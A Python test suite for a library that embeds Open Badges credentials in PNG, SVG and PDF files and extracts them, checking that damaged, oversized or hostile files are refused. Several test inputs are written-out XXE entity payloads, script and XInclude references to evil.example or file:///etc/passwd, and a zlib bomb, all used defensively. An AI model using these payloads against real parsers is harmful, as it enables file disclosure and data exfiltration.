"""Pictures and PDFs with a credential in them: put in, taken out, and everything else left as it was."""

import zlib
from io import BytesIO

import pytest
from hypothesis import given
from hypothesis import strategies as st
from PIL import Image
from pypdf import PdfWriter

from laurel.bake import detect, pdf, png, svg, unbake
from laurel.bake.refusals import MAX_CREDENTIAL, MAX_FILE
from laurel.errors import BakeError
from shared import SHARED, needs_shared

JSON = '{"name": "Оценяване ]]> <b>&amp;</b>"}'
JWT = "eyJhbGciOiJFZERTQSJ9.eyJhIjoxfQ.c2ln"
SVG = b'<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" data-a="1 > 0"><path d="M0 0"/></svg>\n'

texts = st.text(st.characters(codec="utf-8", exclude_categories=["Cs", "Cc"], exclude_characters="\ufffe\uffff")).map(
    lambda inner: '{"a": "' + inner.strip() + '"}'
)


def picture():
    image = BytesIO()
    Image.new("RGB", (4, 4), "#1f6b45").save(image, "PNG", pnginfo=None, dpi=(72, 72))
    return image.getvalue()


def document():
    written = BytesIO()
    writer = PdfWriter()
    writer.add_blank_page(width=100, height=100)
    writer.write(written)
    return written.getvalue()


def chunk(kind, body):
    return len(body).to_bytes(4) + kind + body + zlib.crc32(kind + body).to_bytes(4)


def with_chunk(body, kind=b"iTXt"):
    plain = picture()
    return plain[:33] + chunk(kind, body) + plain[33:]


def reason_of(call, *arguments):
    with pytest.raises(BakeError) as caught:
        call(*arguments)
    assert caught.value.say("bg") != caught.value.say("en")
    return caught.value.facts["reason"]


CARRIERS = [
    pytest.param(png.bake, picture, "png", id="png"),
    pytest.param(svg.bake, lambda: SVG, "svg", id="svg"),
    pytest.param(pdf.attach, document, "pdf", id="pdf"),
]


@pytest.mark.parametrize(("put", "plain", "carrier"), CARRIERS)
@pytest.mark.parametrize("credential", [JSON, JWT])
def test_what_is_put_in_is_taken_out(put, plain, carrier, credential):
    baked = put(plain(), credential)

    assert detect(baked) == carrier
    assert unbake(baked) == credential


@given(texts)
def test_any_json_text_survives_a_png_and_an_svg(credential):
    assert png.extract(png.bake(picture(), credential)) == credential
    assert svg.extract(svg.bake(SVG, credential)) == credential


@pytest.mark.parametrize(("module", "plain"), [(png, picture), (svg, lambda: SVG)])
def test_a_credential_already_there_is_replaced(module, plain):
    twice = module.bake(module.bake(plain(), JSON), JWT)

    assert module.extract(twice) == JWT
    assert twice == module.bake(plain(), JWT)


@pytest.mark.parametrize("credential", [JSON, JWT])
def test_everything_else_of_an_svg_stays_byte_for_byte(credential):
    once = svg.bake(SVG, credential)

    assert svg.bake(once, JSON) == svg.bake(SVG, JSON)
    assert svg.bake(svg.bake(once, JWT), credential) == once


def test_every_other_chunk_stays_byte_for_byte():
    plain = with_chunk(b"Author\0\0\0\0\0Amina")
    baked = png.bake(plain, JSON)

    ours = chunk(b"iTXt", b"openbadgecredential\0\0\0\0\0" + JSON.encode())
    assert baked.replace(ours, b"") == plain


def test_a_compressed_chunk_of_another_issuer_is_read():
    packed = with_chunk(b"openbadgecredential\0\1\0en\0x\0" + zlib.compress(JSON.encode()))

    assert png.extract(packed) == JSON


@pytest.mark.parametrize(("text", "carrier"), [(JSON, "json"), (f"\ufeff {JSON}", "json"), (JWT + "\n", "jwt")])
def test_plain_text_is_told_by_its_first_characters(text, carrier):
    assert detect(text.encode()) == carrier
    assert unbake(text.encode()) == text.strip("\ufeff \n")


def test_refuses_a_png_with_two_credentials():
    body = b"openbadgecredential\0\0\0\0\0{}"
    twice = with_chunk(body)[:33] + chunk(b"iTXt", body) + with_chunk(body)[33:]

    assert reason_of(png.extract, twice) == "SEVERAL_CREDENTIALS"


@pytest.mark.parametrize("kind", [b"iTXt", b"tEXt", b"zTXt"])
@pytest.mark.parametrize("keyword", [b"openbadgecredential", b"openbadges"])
def test_refuses_a_png_in_which_other_readers_could_find_another_credential(kind, keyword):
    rest = {b"iTXt": b"\0\0\0\0{}", b"tEXt": b"{}", b"zTXt": b"\0" + zlib.compress(b"{}")}[kind]
    baked = png.bake(picture(), JSON)
    twice = baked[:33] + chunk(kind, keyword + b"\0" + rest) + baked[33:]

    assert reason_of(png.extract, twice) == "SEVERAL_CREDENTIALS"
    assert png.extract(png.bake(twice, JWT)) == JWT


def test_refuses_a_png_with_a_chunk_larger_than_a_credential_or_than_the_file():
    large = with_chunk(b"openbadgecredential\0\0\0\0\0" + b" " * (MAX_CREDENTIAL + 1))
    lying = png.bake(picture(), JSON).replace(b"\0\0\0\x0dIHDR", b"\x7f\xff\xff\xffIHDR")

    assert reason_of(png.extract, large) == "CREDENTIAL_TOO_LARGE"
    assert reason_of(png.extract, lying) == "DAMAGED"


def test_refuses_a_png_of_more_chunks_than_any_picture_has():
    crowded = picture()[:33] + chunk(b"tEXt", b"a\0b") * 10_001 + picture()[33:]

    assert reason_of(png.extract, crowded) == "DAMAGED"


def test_what_stands_after_the_end_of_a_png_is_not_read():
    other = chunk(b"iTXt", b"openbadgecredential\0\0\0\0\0[]")

    assert png.extract(png.bake(picture(), JSON) + other) == JSON


def test_refuses_a_png_whose_chunk_was_changed_without_its_checksum():
    assert reason_of(png.extract, png.bake(picture(), JSON).replace(b"name", b"mane")) == "DAMAGED"


def test_refuses_a_png_that_unpacks_to_more_than_a_credential_can_be():
    bomb = with_chunk(b"openbadgecredential\0\1\0\0\0" + zlib.compress(b" " * (MAX_CREDENTIAL + 1)))

    assert reason_of(png.extract, bomb) == "CREDENTIAL_TOO_LARGE"


@pytest.mark.parametrize(
    "body",
    [
        b"openbadgecredential\0",
        b"openbadgecredential\0\2\0\0\0{}",
        b"openbadgecredential\0\1\0\0\0{}",
        b"openbadgecredential\0\1\1\0\0" + zlib.compress(b"{}"),
    ],
)
def test_refuses_a_chunk_that_breaks_the_png_rules(body):
    assert reason_of(png.extract, with_chunk(body)) == "DAMAGED"


@pytest.mark.parametrize("cut", [9, 20, 40, -4])
def test_refuses_a_png_that_was_cut_off(cut):
    assert reason_of(png.extract, png.bake(picture(), JSON)[:cut]) == "DAMAGED"


def test_refuses_an_svg_with_two_credentials_or_two_forms_of_one():
    element = f'<o:credential xmlns:o="{svg.NAMESPACE}"'.encode()
    two = SVG.replace(b"<path", element + b">{}</o:credential>" + element + b' verify="a.b.c"/><path')
    both = SVG.replace(b"<path", element + b' verify="a.b.c">{}</o:credential><path')
    nested = SVG.replace(b"<path", element + b">{}" + element + b"/></o:credential><path")

    assert [reason_of(svg.extract, one) for one in (two, both, nested)] == ["SEVERAL_CREDENTIALS"] * 3


@pytest.mark.parametrize(
    "subset",
    [
        b'<!ENTITY a "b">',
        b'<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;',
        b'<!ATTLIST svg verify CDATA "x">',
        b'<!ENTITY x SYSTEM "file:///etc/passwd">',
    ],
)
def test_refuses_an_svg_that_defines_entities_or_default_attributes(subset):
    assert reason_of(svg.extract, SVG.replace(b"<svg", b"<!DOCTYPE svg [" + subset + b"]><svg")) == "ENTITIES"


def test_an_ordinary_doctype_is_read_without_fetching_it():
    plain = SVG.replace(b"<svg", b'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/svg11.dtd"><svg')

    assert svg.extract(svg.bake(plain, JSON)) == JSON


LIVELY = (
    b'<?xml-stylesheet href="https://evil.example/x.xsl" type="text/xsl"?>',
    b"<script>fetch('https://evil.example/')</script>",
    b'<script href="https://evil.example/x.js"/>',
    b'<image href="file:///etc/passwd"/><use href="https://evil.example/x.svg#a"/>',
    b'<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example/"/></foreignObject>',
    b'<path onload="alert(1)" style="fill:url(https://evil.example/x)"/>',
    b"<style>@import url(https://evil.example/x.css);</style>",
    b'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>',
)


@pytest.mark.parametrize("lively", LIVELY)
def test_scripts_and_references_of_a_picture_are_neither_run_nor_fetched(lively, monkeypatch):
    """Sockets are closed to all tests; no file is opened either, and the picture stays as it was."""
    monkeypatch.setattr("builtins.open", None)
    baked = svg.bake(SVG.replace(b"<path", lively + b"<path"), JSON)

    assert svg.extract(baked) == JSON
    assert lively in baked


def test_refuses_an_svg_in_which_one_credential_hides_in_the_other_form():
    inside = SVG.replace(b"<path", b'<o:assertion xmlns:o="http://openbadges.org" verify="https://x.example/1"/><path')

    assert reason_of(
        svg.extract, inside.replace(b"<path", f'<p:credential xmlns:p="{svg.NAMESPACE}">{{}}</p:credential><path'.encode())
    ) == ("SEVERAL_CREDENTIALS")


def test_refuses_an_svg_in_another_encoding():
    assert reason_of(svg.extract, SVG.decode().encode("utf-16")) == "NOT_UTF_8"
    assert reason_of(svg.extract, SVG.replace(b"UTF-8", b"windows-1251")) == "NOT_UTF_8"


@pytest.mark.parametrize("text", [b"<html/>", b"<svg/>", b'<svg xmlns="http://www.w3.org/2000/svg"/>', SVG[:-8], b"<a" * 1000])
def test_refuses_what_is_not_a_whole_svg(text):
    assert reason_of(svg.bake, text, JSON) == "NOT_AN_SVG"


def test_refuses_an_svg_nested_without_end():
    deep = SVG.replace(b"<path", b"<g>" * 300 + b"</g>" * 300 + b"<path")

    assert reason_of(svg.extract, deep) == "DAMAGED"


@pytest.mark.parametrize("inside", ["<b/>", "<b>x</b>", "{}<script/>"])
def test_refuses_an_element_inside_the_credential_of_an_svg(inside):
    found = SVG.replace(b"</svg>", f'<c:credential xmlns:c="{svg.NAMESPACE}">{inside}</c:credential></svg>'.encode())

    assert reason_of(svg.extract, found) == "DAMAGED"


@pytest.mark.parametrize("many", ["<a/>" * 150_001, f"<a{' a=' * 150_001}/>"], ids=["elements", "attributes"])
def test_refuses_an_svg_that_is_more_complicated_than_any_badge(many):
    assert reason_of(svg.extract, SVG.replace(b"</svg>", many.encode() + b"</svg>")) == "TOO_COMPLICATED"


@pytest.mark.parametrize(("start", "carrier"), [(b'{"a":"%PDF-1.7', "json"), (b"<svg><!-- %PDF-1.7", "svg")])
def test_the_words_of_a_pdf_in_a_text_do_not_make_it_one(start, carrier):
    assert detect(start) == carrier


def test_refuses_to_write_what_stands_in_a_pdf_to_the_log(caplog):
    odd = pdf.attach(document(), JSON).replace(b"startxref", b"startxreg").replace(b"/EmbeddedFiles", b"/EmbeddedFile\x1b")

    with pytest.raises(BakeError):
        pdf.extract(odd)

    assert caplog.records == []


def test_refuses_a_second_credential_in_a_pdf():
    assert reason_of(pdf.attach, pdf.attach(document(), JSON), JWT) == "SEVERAL_CREDENTIALS"


def test_refuses_a_pdf_with_two_credentials():
    writer = PdfWriter(BytesIO(document()))
    writer.add_attachment("credential.json", b"{}")
    writer.add_attachment("credential.jwt", JWT.encode())
    written = BytesIO()
    writer.write(written)

    assert reason_of(pdf.extract, written.getvalue()) == "SEVERAL_CREDENTIALS"


def _with_attachments(*attached):
    writer = PdfWriter(BytesIO(document()))
    for name, content in attached:
        writer.add_attachment(name, content)
    for each in writer.root_object["/Names"]["/EmbeddedFiles"]["/Names"][1::2]:
        stream = each.get_object()["/EF"].raw_get("/F")
        writer._replace_object(stream, stream.get_object().flate_encode())
    written = BytesIO()
    writer.write(written)
    return written.getvalue()


def test_refuses_a_pdf_with_two_attachments_of_one_name():
    assert (
        reason_of(pdf.extract, _with_attachments(("credential.json", b"{}"), ("credential.json", b"[]")))
        == "SEVERAL_CREDENTIALS"
    )


def test_other_attachments_do_not_matter():
    assert pdf.extract(_with_attachments(("transcript.json", b"[]"), ("credential.json", JSON.encode()))) == JSON


@pytest.mark.parametrize(("size", "reason"), [(MAX_CREDENTIAL + 1, "CREDENTIAL_TOO_LARGE"), (200_000_000, "DAMAGED")])
def test_refuses_an_attachment_that_unpacks_to_more_than_a_credential_can_be(size, reason):
    assert reason_of(pdf.extract, _with_attachments(("credential.json", b" " * size))) == reason


@pytest.mark.parametrize("broken", [b"%PDF-1.7", b"%PDF-1.7\ntrailer<</Root 1 0 R>>", b"%PDF-" + b"\0" * 100])
def test_refuses_a_broken_pdf(broken):
    assert reason_of(pdf.extract, broken) == "NOT_A_PDF"


@pytest.mark.parametrize(("module", "plain"), [(png, picture), (svg, lambda: SVG), (pdf, document)])
def test_refuses_a_file_without_a_credential(module, plain):
    assert reason_of(module.extract, plain()) == "NO_CREDENTIAL"


@pytest.mark.parametrize("module", [png, svg, pdf])
def test_refuses_a_file_that_is_too_large(module):
    assert reason_of(module.extract, b" " * (MAX_FILE + 1)) == "FILE_TOO_LARGE"


@pytest.mark.parametrize("presented", [b"", b"hello", b"GIF89a", b"a.b", "а.б.в".encode(), b"\0" * 50])
def test_refuses_what_is_no_badge_at_all(presented):
    assert reason_of(detect, presented) == "NOT_A_BADGE"


@pytest.mark.parametrize(
    "name", ["simple-json.png", "simple-json.svg", "simple-jwt.png", "simple-jwt.svg", "simple-jwt_v1.png", "simple-jwt_v1.svg"]
)
@pytest.mark.shared
@needs_shared[1]
def test_the_baked_fixtures_of_1edtech_are_read(name):
    text = unbake((SHARED / "vectors" / "1edtech-validator-ob30" / name).read_bytes())

    assert text.startswith("{" if "json" in name else "eyJ")
